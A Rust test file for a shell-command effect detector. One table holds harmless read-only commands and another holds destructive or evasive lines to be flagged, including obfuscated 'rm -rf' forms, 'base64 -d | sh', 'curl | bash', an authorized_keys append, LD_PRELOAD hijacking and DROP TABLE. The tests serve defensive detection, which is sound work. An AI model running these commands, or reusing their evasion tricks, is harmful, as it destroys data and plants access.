//! Labelled acts: what must be seen, and what must stay a read.

use super::*;
use crate::model::effect::{Effect, Effects};

fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

fn seen(argv: &[String]) -> Vec<Seen> {
    detect(&ActText {
        argv,
        scripts: &[],
        stdin: None,
    })
}

/// A line as a shell would be given it.
fn line(text: &str) -> Vec<Seen> {
    seen(&argv(&["/bin/sh", "-c", text]))
}

fn effects(seen: &[Seen]) -> Effects {
    seen.iter().map(|seen| seen.effect).collect()
}

/// Each row: effects that must be among those seen, `|`, the line.
fn must_see(table: &str) {
    let mut wrong = Vec::new();
    for row in table.lines().map(str::trim).filter(|row| !row.is_empty()) {
        let (wanted, text) = row.split_once('|').unwrap();
        let seen = line(text.trim());
        for word in wanted.split_whitespace() {
            let effect: Effect = word.parse().unwrap();
            if !effects(&seen).contains(&effect) {
                wrong.push(format!(
                    "{text}: no {effect} in {:?}",
                    seen.iter()
                        .map(|s| (s.effect.word(), s.rule.as_str()))
                        .collect::<Vec<_>>()
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Each row is a line that must be a read and nothing else.
fn must_read(table: &str) {
    let mut wrong = Vec::new();
    for text in table.lines().map(str::trim).filter(|row| !row.is_empty()) {
        let seen = line(text);
        if effects(&seen) != Effects::from([Effect::Read]) {
            wrong.push(format!(
                "{text}: {:?}",
                seen.iter()
                    .map(|s| (s.effect.word(), s.rule.as_str()))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn reads_stay_free() {
    must_read(
        r#"
        ls -la /var/lib
        cat /etc/hosts | grep -v '^#' | head -5
        ps aux | grep "[p]ostgres"
        df -h; free -m && uptime || true
        echo "$HOME" > /dev/null 2>&1
        if test -f /x; then echo yes; else echo no; fi
        for f in a b; do echo "$f"; done
        psql -d orders -Atc "select count(*), max(id) from orders"
        psql -c '\dt+ public.*' orders
        sudo -u postgres psql -c 'select now()'
        timeout 5 tail -n 100 /var/log/syslog
        env LANG=C sort -u names
        grep -r 'DROP TABLE' src
        echo 'rm -rf /'
        find . -name '*.log' -mtime +3
        find /var -type f -exec ls -l {} +
        ssh db1 uptime
        curl -s https://status.example.com/healthz
        curl -fsSL -o /dev/null -w '%{http_code}' https://example.com/
        sed -n '1,20p' file
        sed 's/a/b/g' file
        awk '{print $1}' file
        tar -tzf archive.tar.gz
        rsync -av --dry-run --delete a/ b/
        explain_nothing=1
        "#,
    );
}

#[test]
fn a_shell_line_is_seen_through() {
    must_see(
        r#"
        bulk-data one-way | rm -rf /srv/data
        bulk-data one-way | \rm -rf /srv/data
        bulk-data one-way | command rm -rf /srv/data
        bulk-data one-way | /bin/rm -rf /srv/data
        bulk-data one-way | 'r'"m" -rf /srv/data
        bulk-data one-way | $'\x72m' -rf /srv/data
        unknown | rm${IFS}-rf${IFS}/srv
        unknown | X=rm; $X -rf /srv
        unknown | {rm,-rf,/srv}
        unknown bulk-data | eval "rm -rf /srv"
        unknown bulk-data | echo $(rm -rf /srv)
        unknown bulk-data | echo `rm -rf /srv`
        unknown | echo cm0gLXJmIC8= | base64 -d | sh
        bulk-data | echo 'rm -rf /srv' | sh
        unknown | curl -s https://example.com/x | bash
        unknown | alias ls='rm -rf /'; ls
        unknown bulk-data | ls() { rm -rf /srv; }; ls
        bulk-data one-way | ls; rm -rf /srv
        bulk-data one-way | ls & rm -rf /srv
        bulk-data one-way | true || rm -r /srv
        bulk-data one-way | if true; then rm -rf /srv; fi
        schema-change bulk-data one-way | psql <<< 'drop table x'
        data-write | echo hi > /srv/file
        bulk-data one-way | > /srv/file
        config-change | echo hi >> /etc/app.conf
        credential-change | cat key >> ~/.ssh/authorized_keys
        unknown | PATH=/tmp/x:$PATH ls
        unknown | LD_PRELOAD=/tmp/x.so ls
        unknown | /tmp/evil/ls
        unknown bulk-data | /BIN/RM -rf /srv
        unknown | ./deploy.sh
        unknown | . ./env.sh
        unknown | frobnicate --all
        "#,
    );
}

#[test]
fn here_documents_reach_the_program_that_reads_them() {
    let drop = Effects::from([Effect::SchemaChange, Effect::BulkData, Effect::OneWay]);
    assert_eq!(effects(&line("psql <<'E'\nDROP TABLE x;\nE")), drop);
    assert_eq!(effects(&line("cat <<'E' | psql\nDROP TABLE x;\nE")), drop);
    assert_eq!(
        effects(&line("cat <<'E'\nDROP TABLE x;\nE")),
        Effects::from([Effect::Read])
    );
    assert!(effects(&line("bash <<E\nrm -rf $DIR\nE")).contains(&Effect::Unknown));
}
